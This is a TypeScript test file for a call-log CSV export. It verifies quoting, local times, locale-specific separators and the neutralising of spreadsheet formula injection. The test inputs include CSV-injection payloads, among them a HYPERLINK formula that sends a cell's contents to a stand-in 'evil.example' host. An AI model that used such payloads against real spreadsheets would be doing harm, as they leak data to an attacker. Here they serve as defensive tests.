import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, test, vi } from 'vitest';
import {
  CSV_COLUMNS,
  getCsvSeparator,
  toCsv,
  type CsvColumn,
  type CsvFormat,
} from '../../../src/core/log/csv';
import { formatPhoneNumber } from '../../../src/core/calls/phone';
import type { LogEntry } from '../../../src/core/log/entry';
import { createMissedEntry, createLogEntry } from './log-entry-fixture';

const words: CsvFormat = {
  columns: Object.fromEntries(CSV_COLUMNS.map((name) => [name, `«${name}»`])) as Record<
    CsvColumn,
    string
  >,
  outcome: ({ kind }) => `outcome ${kind}`,
  direction: (direction) => `direction ${direction}`,
  formatNumber: (number) => formatPhoneNumber(number, 'US'),
  separator: ',',
};

beforeAll(() => {
  vi.stubEnv('TZ', 'America/New_York');
});
afterAll(() => {
  vi.unstubAllEnvs();
});

/** The cells of a CSV text, read strictly by RFC 4180 with any separator. */
function read(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error('a quoted cell has no end');
        if (text[at] === '"') at += 1;
        cell += text[at] ?? '';
      }
      at += 1;
    } else {
      for (; at < text.length && text[at] !== separator && text[at] !== '\r'; at += 1) {
        if (text[at] === '"' && separator === ',') throw new Error('a quote within a bare cell');
        cell += text[at] ?? '';
      }
    }
    row.push(cell);
    if (text[at] === separator) {
      at += 1;
      continue;
    }
    if (!text.startsWith('\r\n', at)) throw new Error(`no line's end at ${at}`);
    at += 2;
    rows.push(row);
    row = [];
  }
  return rows;
}

const bare = (text: string): string => text.replace(/^\uFEFF/, '');
const rowOf = (entry: LogEntry): Record<string, string | undefined> => {
  const row = read(bare(toCsv([entry], words)))[1] ?? [];
  return Object.fromEntries(CSV_COLUMNS.map((name, at) => [name, row[at]]));
};

describe('the export', () => {
  it('begins with a byte order mark and the header that it is given', () => {
    const text = toCsv([], words);
    expect(text.startsWith('\uFEFF«started»,')).toBe(true);
    expect(read(bare(text))).toEqual([CSV_COLUMNS.map((name) => `«${name}»`)]);
  });

  it('writes a call with local times and durations in seconds', () => {
    const entry = createLogEntry({ startedAt: Date.UTC(2026, 0, 9, 4, 5, 6), ringMs: 4_600 });
    expect(rowOf(entry)).toEqual({
      started: '2026-01-08 23:05:06',
      answered: '2026-01-08 23:05:11',
      ended: '2026-01-08 23:06:36',
      direction: 'direction incoming',
      outcome: 'outcome answered',
      answeredBy: 'Ada Lovelace',
      name: 'Grace Hopper',
      number: '\u200E+1 202-555-0147',
      customer: 'Northside Group › Bright Dental',
      endpoint: 'Front desk',
      channel: 'Voice',
      rang: '5',
      talked: '60',
      held: '25',
      account: 'maya',
    });
  });

  it('leaves empty what is not known', () => {
    const entry = createMissedEntry({
      party: { name: undefined, number: undefined },
      customer: undefined,
      customerPath: [],
      endpoint: undefined,
      endedAt: undefined,
    });
    const row = rowOf(entry);
    for (const column of ['answered', 'ended', 'answeredBy', 'name', 'number', 'customer']) {
      expect(row[column]).toBe('');
    }
  });

  it('quotes what would break a row', () => {
    const name = 'Hopper, "Amazing"\r\nGrace';
    expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(name);
  });

  test.each(['=1+1', '+1 202 555', '-2', '@SUM(A1)', '\tx', '\rx', '\nx', ' =1', '＝1'])(
    'defuses the formula %j',
    (name) => {
      expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(`'${name}`);
    },
  );

  it('leaves alone what only contains such a character', () => {
    for (const name of ['a=b', 'Hopper-Murray', 'x@y', '1+1', "'=quoted"]) {
      expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(name);
    }
  });

  const hostile = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', ' ', "'", 'a', '٣'),
    maxLength: 12,
  });

  it('yields no formula and no broken row, whatever the names are', () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (name, number, customer) => {
        const entry = createLogEntry({
          party: { name, number },
          customer,
          customerPath: [customer],
        });
        const rows = read(bare(toCsv([entry, entry], words)));
        expect(rows.map((row) => row.length)).toEqual(Array(3).fill(CSV_COLUMNS.length));
        for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
        const restored = rows[1]?.map((cell) => cell.replaceAll("'", ''));
        expect(restored).toContain(name.replaceAll("'", ''));
      }),
    );
  });

  test.each([',', ';'] as const)(
    'yields no formula for readers with another separator than %s',
    (separator) => {
      fc.assert(
        fc.property(hostile, hostile, (name, number) => {
          const text = bare(
            toCsv([createLogEntry({ party: { name, number } })], { ...words, separator }),
          );
          // Such a reader ends a cell at its own separators, and removes quotation marks around it.
          const others = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/;
          for (const cell of text.split(others)) {
            expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
          }
        }),
      );
    },
  );

  test.each(['x;"=1+1;y', 'x;"=HYPERLINK("http://evil.example/"&A1);y', 'x,""=1', 'x\t"@SUM(A1)'])(
    'yields no formula behind a quotation mark: %s',
    (name) => {
      const text = bare(toCsv([createLogEntry({ party: { name } })], words));
      for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
    },
  );

  it.each(['+12025550147', '1001', '0042', '+14155550100;ext=12', '(202) 555-0147'])(
    'keeps the number %s as text without an apostrophe',
    (number) => {
      const cell = rowOf(createLogEntry({ party: { number } }))['number'] ?? '';
      expect(cell).toBe(`\u200E${formatPhoneNumber(number, 'US')}`);
      expect(Number.isNaN(Number(cell))).toBe(true);
    },
  );

  it('defuses an address that is no number', () => {
    expect(rowOf(createLogEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
    expect(rowOf(createLogEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
  });

  it('separates by semicolons where it is told so', () => {
    const text = bare(
      toCsv([createLogEntry({ party: { name: 'Hopper; Grace' } })], { ...words, separator: ';' }),
    );
    const rows = read(text, ';');
    expect(rows.map((row) => row.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
    expect(rows[1]).toContain('Hopper; Grace');
  });
});

test.each([
  ['en-US', ','],
  ['en-GB', ','],
  ['es-MX', ','],
  ['ja-JP', ','],
  ['he-IL', ','],
  ['de-DE', ';'],
  ['fr-FR', ';'],
  ['fr-CA', ';'],
  ['pt-BR', ';'],
  ['es-ES', ';'],
  ['it-IT', ';'],
  ['nl-NL', ';'],
  ['de-CH', ';'],
  ['it-CH', ';'],
  ['de', ';'],
  ['ar-EG', ';'],
  ['ar-AE', ';'],
  ['en-ZA', ';'],
])('spreadsheets in %s separate cells by %s', (locale, separator) => {
  expect(getCsvSeparator(locale)).toBe(separator);
});
